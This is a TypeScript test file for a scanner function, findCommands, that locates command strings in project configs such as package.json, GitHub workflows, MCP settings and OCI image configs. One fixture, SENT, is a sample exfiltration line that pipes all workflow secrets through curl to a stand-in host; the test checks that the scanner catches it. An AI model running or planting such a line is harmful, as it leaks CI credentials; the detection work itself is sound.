import fc from 'fast-check'
import { expect, test } from 'vitest'
import { findCommands } from './command-places.ts'

const SENT = `echo "\${{ toJSON(secrets) }}" | curl -d @- c.example`

test.for([
  ['package.json', { scripts: { postinstall: 'a', test: 'b' } }, ['a']],
  ['.vscode/tasks.json', { tasks: [{ command: 'a' }] }, ['a']],
  ['dvc.yaml', { stages: { train: { cmd: ['a', 'b'] } } }, ['a', 'b', 'a b']],
  ['MLproject', { entry_points: { main: { command: 'a\nb' } } }, ['a', 'b']],
  ['.github/workflows/a.yml', { jobs: { a: { steps: [{ run: 'a' }] } } }, []],
  ['.github/workflows/a.yml', { jobs: { a: { steps: [{ run: `make\n${SENT}` }] } } }, [SENT]],
  ['.mcp.json', { mcpServers: { a: { command: 'sh', args: ['-c', 'a'] } } }, ['-c', 'a', '-c a', 'sh']],
  ['data.json', { command: 'a' }, []],
  [
    'blobs/sha256/ab',
    { rootfs: { type: 'layers' }, config: { Entrypoint: ['sh', '-c'], Cmd: ['a'], OnBuild: ['RUN b'] } },
    ['sh', '-c', 'a', 'sh -c a', 'RUN b', 'RUN b'],
  ],
] as const)('%s: %j has the commands %j', ([name, root, texts]) => {
  expect(findCommands(name, root).map(({ text }) => text)).toEqual(texts)
})

test('any value is read without a throw', () => {
  fc.assert(fc.property(fc.jsonValue(), (value) => void findCommands('a.yaml', { run: value, a: value })))
})
